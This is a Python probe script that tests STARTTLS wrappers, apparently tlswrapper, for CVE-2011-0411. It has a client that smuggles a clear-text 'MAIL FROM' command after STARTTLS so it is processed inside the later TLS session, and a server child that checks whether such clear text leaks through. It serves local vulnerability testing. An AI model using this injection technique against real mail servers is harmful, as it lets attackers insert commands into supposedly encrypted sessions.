#!/usr/bin/env python3
"""CVE-2011-0411 probes for STARTTLS wrappers: a client that puts clear
text after STARTTLS, and (-n mode) a careful server child for
tlswrapper -n's delayed encryption.

usage: starttls_inject.py client PORT [SYNCFILE|after-reply]
    EHLO, then "STARTTLS\\r\\nMAIL FROM:<injected@evil.test>\\r\\n" in one
    write; or, with SYNCFILE, STARTTLS alone and the MAIL line in a
    second write once SYNCFILE exists; or, with after-reply, the MAIL
    line in clear once the 220 has come, before the handshake.  Then the TLS handshake, and over
    TLS only "RCPT TO:<u@example.org>", DATA, a message and QUIT.
    Prints every reply, "clear" or "tls" first.
usage: starttls_inject.py child SYNCFILE OUTFILE
    Runs under tlswrapper -n (its descriptor 5): greets, answers EHLO,
    and at STARTTLS throws away whatever came after it and all that is
    waiting, writes the 220 on descriptor 5, creates SYNCFILE, waits
    for input, closes descriptor 5 (tlswrapper then starts TLS) and
    writes to OUTFILE what it reads next: anything there before the
    client's TLS handshake is clear text no child could tell from
    encrypted input.
"""
import os
import select
import socket
import ssl
import sys
import time


def replies(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            return lines
        lines.append(line.decode("latin-1").rstrip("\r\n"))
        if len(line) < 4 or line[3:4] != b"-":
            return lines


def client(port, sync):
    s = socket.create_connection(("127.0.0.1", port), 10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    f = s.makefile("rb")
    print("clear", replies(f))
    s.sendall(b"EHLO client.test\r\n")
    print("clear", replies(f))
    injected = b"MAIL FROM:<injected@evil.test>\r\n"
    if sync is None:
        s.sendall(b"STARTTLS\r\n" + injected)
    elif sync == "after-reply":
        s.sendall(b"STARTTLS\r\n")
        print("clear", replies(f))
        s.sendall(injected)
    else:
        s.sendall(b"STARTTLS\r\n")
        for _ in range(1000):
            if os.path.exists(sync):
                break
            time.sleep(0.01)
        s.sendall(injected)
    # the injected command's reply may come before the 220, in clear
    while sync != "after-reply":
        got = replies(f)
        print("clear", got)
        if not got or got[0].startswith("220"):
            break
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname="mx.test")
    except (OSError, ssl.SSLError) as e:
        print("handshake failed:", e)
        return
    g = t.makefile("rb")
    for command in (b"RCPT TO:<u@example.org>\r\n", b"DATA\r\n",
                    b"Subject: injected\r\n\r\nx\r\n.\r\n", b"QUIT\r\n"):
        t.sendall(command)
        t.settimeout(5)
        try:
            got = replies(g)
            # a reply to the injected MAIL comes first, unasked
            while got and got[0].startswith("250 2.1.0") and command.startswith(b"RCPT"):
                print("tls", got)
                got = replies(g)
            print("tls", got)
        except (OSError, ssl.SSLError) as e:
            print("tls", "error", e)
            return


def child(sync, out):
    w = os.fdopen(1, "wb", buffering=0)
    w.write(b"220 child.test ESMTP\r\n")
    buf = b""
    while b"STARTTLS\r\n" not in buf:
        data = os.read(0, 4096)
        if not data:
            return
        buf += data
        while b"\r\n" in buf and not buf.startswith(b"STARTTLS"):
            line, buf = buf.split(b"\r\n", 1)
            if line.upper().startswith(b"EHLO"):
                w.write(b"250-child.test\r\n250 STARTTLS\r\n")
    # careful: whatever followed STARTTLS, and all that waits, goes
    while select.select([0], [], [], 0)[0]:
        if not os.read(0, 4096):
            break
    os.write(5, b"220 2.0.0 Ready to start TLS\r\n")
    open(sync, "w").close()
    select.select([0], [], [], 10)
    os.close(5)
    got = os.read(0, 4096) if select.select([0], [], [], 10)[0] else b""
    with open(out, "wb") as f:
        f.write(got)


if sys.argv[1] == "client":
    client(int(sys.argv[2]), sys.argv[3] if len(sys.argv) > 3 else None)
else:
    child(sys.argv[2], sys.argv[3])
